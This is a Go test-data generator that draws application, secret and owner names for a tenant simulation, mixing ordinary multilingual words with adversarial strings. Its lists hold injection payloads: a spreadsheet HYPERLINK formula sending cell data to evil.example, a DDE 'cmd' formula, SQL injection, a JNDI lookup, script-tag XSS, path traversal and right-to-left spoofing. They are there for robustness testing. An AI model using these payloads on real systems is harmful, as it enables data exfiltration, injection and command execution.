package tenant

import (
	"fmt"
	"strings"
)

// name draws the name of an application. Some have the same one.
func (t *Truth) name() string {
	switch {
	case t.chance(6):
		return ugly[t.random.IntN(len(ugly))]
	case t.chance(4):
		return words[t.random.IntN(len(words))]
	}
	return fmt.Sprintf("%s %s %d", words[t.random.IntN(len(words))], words[t.random.IntN(len(words))], t.random.IntN(10_000))
}

// ugly are names that break what was not made for them. An application's has up to 256
// characters.
var ugly = []string{
	`=HYPERLINK("https://evil.example/?"&A1,"click")`, "+1+1", "-2+3", "@SUM(A1:A9)", // for spreadsheets
	"\tindented", "\rreturn", " =1+1", "＝1+1",
	`"quoted", 'single', back\slash`, "two\nlines", "a;b,c|d", "'; DROP TABLE applications; --", "%s %d %n",
	"{{.Name}}", "${jndi:ldap://x}",
	"<script>alert(1)</script>", `"><img src=x onerror=alert(1)>`, "&amp; &lt;", "[link](https://evil.example)", "`code` *bold* _it_",
	"قسم المالية", "מערכת חיוב 2", "\u202Egnp.exe", "abc\u202Edef\u202Cghi", "\u2066isolated\u2069", // right to left
	"Ａｃｃｏｕｎｔｉｎｇ", "会計システム", "회계 시스템", "财务系统（生产）", "บัญชี", "लेखा प्रणाली", "бухгалтерия",
	"λογιστικά", "հաշվապահություն", "ბუღალტერია", "ሒሳብ",
	"Zürich Straße", "Zu\u0308rich", "Z\u0334\u0321\u0359a\u0336\u035Bl\u0337\u0348g\u0335o", "İstanbul ıI", // composed, decomposed, stacked
	"👩‍👩‍👧‍👦 family", "🇨🇭 payroll 🏴󠁧󠁢󠁥󠁮󠁧󠁿", "\u200B", "\uFEFFmark first", "a\u00A0b\u2007c", "\u007Fdel", "soft\u00ADhyphen", " ",
	"null", "undefined", "NaN", "true", "0", "1e9", "00123", "2026-01-01", "-", "...", "../../etc/passwd", "rekey", "CON",
	strings.Repeat("long ", 51) + "x", strings.Repeat("長", 256), strings.Repeat("👨‍👩‍👧", 51) + "x", strings.Repeat("e\u0301", 128),
}

// words are what ordinary names are made of.
var words = []string{
	"billing", "payroll", "crm", "reporting", "warehouse", "intranet", "backup", "monitoring", "terraform", "jenkins", "github", "sap",
	"invoices",
	"Rechnungen", "facturación", "comptabilité", "учёт", "請求", "결제", "فواتير", "חשבוניות",
	"dev", "test", "staging", "prod", "legacy", "v2", "api",
}

// secretNames are what people call client secrets; most say nothing.
var secretNames = []string{
	"", "", "", "secret", "prod", "test", "Password uploaded on Tue Mar 02 2021", "do not delete!!", "=1+1", "ключ", "🔑", "<b>key</b>",
	"rekey", "rekey/", "rekey/other/7f3c1b1e-0000-4000-8000-000000000000/AAAAAAAAAA", strings.Repeat("n", 300),
}

// people are the names of owners.
var people = []string{
	"Ada Lovelace", "Grace Hopper", "محمد الخوارزمي", "שרה לוי", "王小明", "鈴木 一郎", "김민준", "Łukasz Żółć", "Ægir Þórsson", "Ирина Петрова",
	"=cmd|' /C calc'!A0", "O'Brien, Séan", "<i>Mallory</i>", "Αλέξανδρος", "José\tMaría", "👤", strings.Repeat("Name ", 51) + "x",
}
